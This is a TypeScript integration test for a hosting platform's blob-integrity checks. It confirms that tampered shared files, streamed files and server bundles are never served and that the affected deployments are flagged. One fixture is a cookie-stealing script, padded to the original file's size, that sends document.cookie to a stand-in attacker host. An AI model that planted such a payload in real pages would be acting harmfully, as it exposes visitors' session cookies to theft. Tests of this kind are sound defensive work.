import assert from 'node:assert/strict';
import { chmod, mkdir, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { LocalBlobStore, sha256 } from '../../src/blobs/index.js';
import { bumpCounter, Store } from '../../src/store/index.js';
import { makeDeployment } from '../edge/helpers.js';
import { tempDir } from '../helpers/paths.js';
import { edgeGet, startSlipwayProcess, waitFor, type RunningSlipway } from '../helpers/slipway.js';
import { packageSsrSite } from '../runtime/helpers.js';

// Shared writable bytes: two projects deploy the same file, so the blob store holds one inode
// for both. Someone (here: root) rewrites that blob on disk. The real platform (`slipway up`,
// API + edge in a worker process + runtime) must never send the changed bytes to anyone, keep
// serving everything else, and flag the deployments for an operator.

const SHARED = Buffer.from(`export const shared = ${JSON.stringify('x'.repeat(50_000))};\n`);
// as long as the original: a size check alone cannot tell them apart
const EVIL = Buffer.from(`${`export const shared = "owned"; fetch("https://attacker.example/" + document.cookie);//`.padEnd(SHARED.length - 1, ' ')}\n`);
const BIG = Buffer.alloc(9 * 1024 * 1024, 'big file, streamed past the memory cache\n');

let dir: Awaited<ReturnType<typeof tempDir>>;
let slipway: RunningSlipway;
let store: Store;
let blobs: LocalBlobStore;

/** A project through the API, and a ready production deployment of `manifestHash` written into the store as a build would. */
async function deploy(project: string, deploymentId: string, manifestHash: string): Promise<void> {
  const created = await slipway.api('POST', '/api/v1/projects', { name: project, repoUrl: `https://example.com/${project}.git` });
  assert.equal(created.status, 201, JSON.stringify(created.body));
  const db = store.db;
  const now = Date.now();
  await db
    .insertInto('deployments')
    .values({
      id: deploymentId,
      project_id: created.body.id,
      seq: await bumpCounter(db, 'deployment_seq'),
      status: 'ready',
      target: 'production',
      environment: 'production',
      trigger: 'api',
      branch: 'main',
      commit_sha: 'a'.repeat(40),
      commit_message: null,
      commit_author: null,
      manifest_hash: manifestHash,
      files_total: null,
      files_uploaded: null,
      bytes_uploaded: null,
      timings: null,
      build_info: null,
      error_code: null,
      error_phase: null,
      error_message: null,
      attempts: 1,
      created_at: now,
      started_at: now,
      finished_at: now,
    })
    .execute();
  await db.insertInto('aliases').values({ project_id: created.body.id, name: 'production', deployment_id: deploymentId, updated_at: now }).execute();
  await bumpCounter(db, 'alias_generation');
}

/** Rewrite a stored blob in place, as a root process would: make it writable, write, done. */
async function tamper(hash: string, bytes: Buffer): Promise<void> {
  const path = blobs.pathOf(hash);
  await chmod(path, 0o644);
  await writeFile(path, bytes);
}

async function integrityError(deploymentId: string): Promise<string> {
  return waitFor(
    `deployment ${deploymentId} to be flagged`,
    async () => {
      const { body } = await slipway.api('GET', `/api/v1/deployments/${deploymentId}`);
      return typeof body.integrityError === 'string' ? (body.integrityError as string) : undefined;
    },
    10_000,
  );
}

before(async () => {
  dir = await tempDir('slipway-integrity-');
  const dataDir = join(dir.path, 'data');
  slipway = await startSlipwayProcess(dataDir, ['--roles', 'api,edge', '--edge-workers', '1']);
  store = await Store.openSqlite(join(dataDir, 'slipway.db'), { migrate: false });
  blobs = new LocalBlobStore(join(dataDir, 'blobs'));
});

after(async () => {
  await store?.close();
  await slipway?.stop();
  await dir?.cleanup();
});

describe('a blob changed on disk', () => {
  it('is never served to any project sharing it; the rest is; both deployments are flagged with the hashes', async () => {
    const a = await makeDeployment(blobs, { 'index.html': '<h1>alpha</h1>', 'app.js': { body: SHARED, gzip: false } });
    const b = await makeDeployment(blobs, { 'index.html': '<h1>beta</h1>', 'vendor/app.js': { body: SHARED } });
    await deploy('alpha', 'dalpha1', a.manifestHash);
    await deploy('beta', 'dbeta1', b.manifestHash);
    const blob = sha256(SHARED);
    assert.equal(EVIL.length, SHARED.length);
    assert.equal((await stat(blobs.pathOf(blob))).mode & 0o777, 0o444, 'blobs are stored read-only');

    await tamper(blob, EVIL);
    for (const [host, path] of [
      ['alpha.localhost', '/app.js'],
      ['beta.localhost', '/vendor/app.js'],
      ['alpha.localhost', '/app.js'],
    ] as const) {
      const res = await edgeGet(slipway.edgePort, host, path);
      assert.equal(res.status, 500, `${host}${path} answers the 500 page`);
      assert.notEqual(sha256(res.body), sha256(EVIL), 'never the changed bytes');
      assert.equal(res.text.includes('owned'), false);
    }
    // the edge keeps serving everything else, for both projects
    assert.equal((await edgeGet(slipway.edgePort, 'alpha.localhost', '/')).text, '<h1>alpha</h1>');
    assert.equal((await edgeGet(slipway.edgePort, 'beta.localhost', '/')).text, '<h1>beta</h1>');

    const alpha = await integrityError('dalpha1');
    assert.match(alpha, /app\.js/);
    assert.ok(alpha.includes(blob) && alpha.includes(sha256(EVIL)), `expected and actual hash in ${alpha}`);
    assert.match(await integrityError('dbeta1'), /vendor\/app\.js/);
    const log = slipway.output();
    assert.ok(log.includes('dalpha1') && log.includes(sha256(EVIL)), `the edge logs the deployment and the hashes:\n${log}`);
    // a deployment whose blobs are intact is not flagged
    const other = await makeDeployment(blobs, { 'index.html': '<h1>gamma</h1>' });
    await deploy('gamma', 'dgamma1', other.manifestHash);
    assert.equal((await edgeGet(slipway.edgePort, 'gamma.localhost', '/')).status, 200);
    assert.equal((await slipway.api('GET', '/api/v1/deployments/dgamma1')).body.integrityError, null);
  });

  it('that is streamed (past the memory cache) is checked too, also after it was served once', async () => {
    const d = await makeDeployment(blobs, { 'big.bin': { body: BIG } });
    await deploy('big', 'dbig1', d.manifestHash);
    const good = await edgeGet(slipway.edgePort, 'big.localhost', '/big.bin');
    assert.equal(good.status, 200);
    assert.equal(sha256(good.body), sha256(BIG));
    const ranged = await edgeGet(slipway.edgePort, 'big.localhost', '/big.bin', { range: 'bytes=0-99' });
    assert.equal(ranged.status, 206);

    const changed = Buffer.from(BIG);
    changed.write('CHANGED', 5_000_000);
    await tamper(sha256(BIG), changed);
    const requests: Record<string, string>[] = [{}, { range: 'bytes=4999990-5000100' }];
    for (const headers of requests) {
      const res = await edgeGet(slipway.edgePort, 'big.localhost', '/big.bin', headers);
      assert.equal(res.status, 500);
      assert.equal(res.text.includes('CHANGED'), false, 'no changed byte is sent');
    }
    assert.match(await integrityError('dbig1'), /big\.bin/);
  });

  it('in a server bundle: the server refuses to start, with the reason, and the deployment is flagged', async () => {
    const root = join(dir.path, 'ssr');
    await mkdir(root, { recursive: true });
    const manifestHash = await packageSsrSite(root, blobs);
    const manifest = JSON.parse((await blobs.get(manifestHash))!.toString()) as { server: { files: Record<string, { hash: string }> } };
    await deploy('ssr', 'dssr1', manifestHash);
    const entry = manifest.server.files['server.mjs']!;
    await tamper(entry.hash, Buffer.from('process.exit(3);\n'));

    const res = await edgeGet(slipway.edgePort, 'ssr.localhost', '/');
    assert.equal(res.status, 502, 'no server runs on changed bytes');
    assert.equal((await edgeGet(slipway.edgePort, 'ssr.localhost', '/robots.txt')).status, 200, 'its intact static files are still served');
    const reason = await integrityError('dssr1');
    assert.match(reason, /server\.mjs/);
    assert.ok(reason.includes(entry.hash));
    assert.match(slipway.output(), /dssr1: refusing to start the server: server\.mjs of the server bundle does not match/);
  });
});
